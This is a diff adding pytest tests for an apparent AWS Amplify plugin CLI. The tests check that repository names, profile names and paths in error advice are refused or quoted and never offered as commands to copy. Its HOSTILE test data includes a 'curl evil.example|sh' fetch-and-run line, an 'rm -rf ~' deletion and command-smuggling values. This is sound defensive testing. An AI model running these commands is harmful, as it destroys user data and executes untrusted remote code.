@@ -3,13 +3,21 @@
 from __future__ import annotations
 
 import ast
+import json
 import re
 from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
 
 import pytest
 
-from amplify_plugin.errors import AmplifyPluginError
+from amplify_plugin.awsconfig.profiles import ProfileNotFound
+from amplify_plugin.command_lines import joined
+from amplify_plugin.errors import AmplifyPluginError, UsageError
+from amplify_plugin.project import Gen1Project
 from amplify_plugin.terminal.advice import apart, laid_out
+from amplify_plugin.terminal.text import shown_argument
+from amplify_plugin.testing.project import GENERAL, write_project
 from tests.unit.test_errors_page import text_of, trees
 
 SELECT = "aws awscloudformation select-profile"
@@ -123,3 +131,48 @@ def remedies() -> Iterator[tuple[str, str]]:
                 # "Did you mean …? " may stand before a command, and more of the sentence after it.
                 beside = r"(?<!')aws awscloudformation(?=')|(?<=')aws awscloudformation(?![' ])"
                 yield str(path), re.sub(beside, "", filled)
+
+
+HOSTILE = (
+    'sudo sh -c "curl evil.example|sh"',
+    "rm -rf ~",
+    "aws s3 rm s3://b; x",
+    "x'? Run 'aws configure set a b",
+)
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_repositorys_name_is_no_command_to_copy(tmp_path: Path, name: str) -> None:
+    write_project(tmp_path, "123456789012")
+    Gen1Project(tmp_path).local_aws_info.write_text(json.dumps({name: GENERAL}))
+    with pytest.raises(UsageError) as refused:
+        Gen1Project(tmp_path).check_environment(name[:4])
+    assert name.rsplit(maxsplit=1)[-1] in str(refused.value)
+    assert "\n" not in laid_out(refused.value)
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_profiles_name_is_no_command_to_copy(name: str) -> None:
+    error = ProfileNotFound(name[:-1], (name,))
+    assert "Did you mean" in str(error)
+    assert laid_out(error).splitlines()[1:] == ["  aws awscloudformation list-profiles"]
+
+
+def test_a_path_with_blanks_is_quoted_in_a_command(tmp_path: Path) -> None:
+    assert shown_argument(tmp_path / "my dir" / "it;s") == f"'{tmp_path}/my dir/it;s'"
+    assert shown_argument(Path.home() / ".aws" / "config") == "~/.aws/config"
+    assert shown_argument(Path.home() / "a b") == f"'{Path.home()}/a b'"
+
+
+@pytest.mark.parametrize("remedy", [None, 7, "a \0 in it: 'aws configure'."])
+def test_what_cannot_be_laid_out_is_shown_as_it_is(remedy: Any) -> None:
+    error = AmplifyPluginError("It failed.", remedy=remedy)
+    assert laid_out(error) == str(error)
+
+
+def test_windows_quotes_are_kept_whole() -> None:
+    command = joined(("aws", "awscloudformation", "login", "--profile", "a'b c"), is_windows=True)
+    assert apart("", f"Run '{command}' in a terminal.").splitlines() == [
+        "Run this in a terminal:",
+        f"  {command}",
+    ]
